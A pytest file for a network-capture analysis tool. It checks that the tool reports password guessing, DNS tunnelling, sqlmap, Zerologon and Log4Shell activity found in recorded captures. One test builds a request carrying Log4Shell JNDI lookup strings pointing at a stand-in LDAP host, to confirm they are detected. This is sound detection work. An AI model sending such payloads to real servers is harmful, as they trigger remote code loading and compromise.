"""Who did what to whom, on captures whose story is known from elsewhere."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest

import khien
from khien.capture import deeds as module
from khien.capture import tally
from khien.capture.deeds import Deeds, _domain_of
from khien.capture.tally import Row
from tests.engine.packet.conftest import pcap_bytes
from tests.traffic.case import REPLY, Talk

ROOT = Path(__file__).resolve().parents[3]


def told(path: Path) -> Deeds:
    """Everything done in a capture."""
    deeds = Deeds()
    for event in khien.read(path).events():
        deeds.add(event)
    return deeds


@pytest.fixture(scope="module")
def recording() -> Deeds:
    return told(ROOT / "lab" / "recording" / "capture.pcapng")


def rows(deeds: Deeds, topic: str, most: int = 4_096) -> list[Row]:
    return deeds.topics[topic].largest(most)


def test_the_host_that_guessed_a_password_and_got_in_comes_first(recording: Deeds) -> None:
    # The day's script: 192.0.2.200 tries lists of passwords; one mail account falls.
    first = rows(recording, "logins")[0]
    assert (first["protocol"], first["from"], first["to"]) == ("imap", "192.0.2.200", "10.10.20.10:143")
    assert first["failure"] > 10
    assert first["success"] == 1
    assert first["users_success"].values == ["motcua.vinhloc@bensen.example"]


def test_a_tunnel_through_dns_leads_the_domains_by_its_names(recording: Deeds) -> None:
    first = rows(recording, "domains")[0]
    assert first["domain"] == "dong-bo.example"
    assert first["names"] > 100


def test_tls_servers_have_their_name_and_ja4(recording: Deeds) -> None:
    names = {row["name"] for row in rows(recording, "servers")}
    assert {"cong-tt.bensen.example", "mail.bensen.example", "cdn-update.example"} <= names
    assert all(row["ja4"].startswith("t1") for row in rows(recording, "servers"))


def test_requests_programs_and_mail_are_told(recording: Deeds) -> None:
    assert any("sqlmap" in row["agent"] for row in rows(recording, "agents"))
    assert any(row["target"] == "/suc-khoe" and row["status"] == 200 for row in rows(recording, "requests"))
    mail = rows(recording, "mail")[0]
    assert mail["subject"] == "Trao đổi công việc"
    assert mail["sender"] == "vanthu.anbinh@bensen.example"


def test_every_row_says_where_it_was_seen_first(recording: Deeds) -> None:
    for topic in module.TOPICS:
        for row in rows(recording, topic):
            assert row["first"]["packet"] > 0, (topic, row)
            assert row["first"]["community_id"] or topic == "anomalies", (topic, row)


def test_names_are_counted_by_question(recording: Deeds) -> None:
    events = khien.read(ROOT / "lab" / "recording" / "capture.pcapng").events("network.dns")
    asked = sum(event["dns"]["type"] == "query" for event in events)
    assert sum(row["times"] for row in rows(recording, "names")) == asked


def test_remote_calls_of_zerologon_are_counted_as_tshark_counts_them(test_data: Path) -> None:
    # tshark -Y "netlogon.opnum == 26 && dcerpc.pkt_type == 0": 286 requests.
    deeds = told(test_data / "pcap" / "attacks" / "zerologon" / "CVE-2020-1472_exploit_win2016.pcap")
    called = [row for row in rows(deeds, "calls") if row["operation"] == "NetrServerAuthenticate3"]
    assert sum(row["times"] for row in called) == 286
    assert any(row["operation"] == "NetrServerPasswordSet2" for row in rows(deeds, "calls"))
    assert [row["path"] for row in rows(deeds, "shares") if row["outcome"] == "failure"] == ["svcctl"]


def test_what_log4shell_fetched_and_searched_is_told(test_data: Path) -> None:
    deeds = told(test_data / "pcap" / "attacks" / "cve-2021-44228" / "log4j-attack.pcap")
    assert any(row["target"] == "/Exploit.class" for row in rows(deeds, "requests"))
    assert any(row["agent"] == "Java/1.8.0_102" for row in rows(deeds, "agents"))
    assert [(row["base"], row["entries"]) for row in rows(deeds, "searches")] == [("a", 1)]


def test_an_expression_is_found_wherever_a_request_carries_it(tmp_path: Path) -> None:
    talk = Talk()
    head = (
        "GET /?q=${jndi:ldap://a.example/url} HTTP/1.1\r\nHost: b.example\r\nX-Api-Version: ${jndi:ldap://a.example/head}\r\n\r\n"
    )
    path = tmp_path / "expressions.pcap"
    frames = [*talk.opening(), *talk.says(head.encode()), *talk.says(REPLY, client=False), *talk.closing()]
    path.write_bytes(pcap_bytes((float(number), frame) for number, frame in enumerate(frames, 1)))
    found = {row["place"]: row["text"] for row in rows(told(path), "expressions")}
    assert found == {"url": "/?q=${jndi:ldap://a.example/url}", "X-Api-Version": "${jndi:ldap://a.example/head}"}


def test_a_day_without_an_attack_on_expressions_has_none(recording: Deeds) -> None:
    assert rows(recording, "expressions") == []


def hostile(number: int) -> Iterator[dict[str, Any]]:
    """Events whose every text is new and as long as a sender likes."""
    text = f"{number}-" + "x" * 5_000
    ends = {"source": {"ip": f"2001:db8::{number:x}", "port": 1}, "destination": {"ip": "192.0.2.1", "port": 2}}
    common = {**ends, "@timestamp": "2026-11-23T00:00:00.000000Z", "network": {"protocol": text}, "khien": {"packet": number}}
    members: dict[str, dict[str, Any]] = {
        "dns": {"dns": {"type": "query", "question": {"name": text, "type": "A"}}},
        "tls": {"tls": {"client": {"server_name": text, "ja4": text}}},
        "http": {"url": {"original": f"${{{text}", "domain": text}, "user_agent": {"original": text}},
        "dcerpc": {"dcerpc": {"endpoint": text, "operation": text}},
        "smb": {"smb": {"share": text}, "file": {"path": text}},
        "ldap": {"ldap": {"request": {"search_request": {"base_object": text, "filter": text}}}},
        "smtp": {"email": {"from": {"address": [text] * 50}, "to": {"address": [text + str(place) for place in range(50)]}}},
        "anomaly": {},
    }
    actions = {"tls": "tls-handshake", "dcerpc": "dcerpc-call", "smb": "smb-open", "smtp": "mail-message", "anomaly": text[:100]}
    for name, own in members.items():
        head = {"dataset": f"network.{name}", "action": actions.get(name, "x"), "category": ["authentication"], "type": ["start"]}
        yield {**common, **own, "event": head, "user": {"name": text, "domain": text}}


def test_a_capture_full_of_new_names_takes_bounded_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tally, "MOST_KEPT", 100)
    deeds = Deeds()
    for number in range(1_000):
        for event in hostile(number):
            deeds.add(event)
    assert {name: found.distinct <= 200 for name, found in deeds.topics.items()} == dict.fromkeys(module.TOPICS, True)
    assert not any(found.is_whole for found in deeds.topics.values())
    # Two hundred rows of twelve lists, each of some texts that are cut at 256 characters.
    assert len(orjson.dumps(deeds.as_json(200))) < 12 * 200 * 20 * 256


@pytest.mark.parametrize(
    ("name", "domain"),
    [
        ("a.b.example.com", "example.com"),
        ("a.b.x.gov.vn", "x.gov.vn"),
        ("gov.vn", "gov.vn"),
        ("a.hanoi.vn", "hanoi.vn"),
        (".", ""),
        ("A.EXAMPLE.", "a.example"),
        ("localhost", "localhost"),
    ],
)
def test_the_domain_of_a_name(name: str, domain: str) -> None:
    assert _domain_of(name) == domain
